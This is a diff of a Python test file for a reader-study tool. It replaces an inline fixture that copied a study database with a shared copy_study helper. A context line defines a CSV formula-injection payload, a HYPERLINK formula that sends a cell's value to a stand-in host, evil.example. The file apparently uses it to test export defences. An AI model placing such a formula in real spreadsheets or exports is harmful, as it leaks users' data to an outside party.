@@ -12,20 +12,19 @@ from __future__ import annotations
 
 import csv
 import json
-import shutil
 import uuid
 
 import pytest
 from click.testing import CliRunner
 
 from studies import database, lifecycle, readers
-from studies.database import open_db, stimuli_dir
+from studies.database import open_db
 from studies.errors import ReaderError, StudyError
 from studies.export import long_table, read_long_csv, write_export
 from studies.session import next_case, submit
 from studio import reader_view
 from studio.cli import cli
-from study_fixtures import make_study
+from study_fixtures import copy_study, make_study
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -38,10 +37,7 @@ def template(tmp_path_factory):
 
 @pytest.fixture()
 def study(template, tmp_path):
-    db = tmp_path / "study.db"
-    shutil.copyfile(template, db)
-    shutil.copytree(stimuli_dir(template), stimuli_dir(db))
-    return db
+    return copy_study(template, tmp_path)
 
 
 def _asking(db, fields="site", consent=""):
